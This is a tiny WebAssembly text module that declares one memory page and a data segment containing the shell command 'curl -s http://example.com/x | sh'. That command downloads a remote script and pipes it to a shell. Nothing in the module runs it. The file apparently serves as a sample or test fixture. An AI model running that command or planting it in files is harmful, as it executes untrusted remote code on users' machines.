(module
  (memory 1)
  (data (i32.const 1024) "curl -s http://example.com/x | sh\00"))
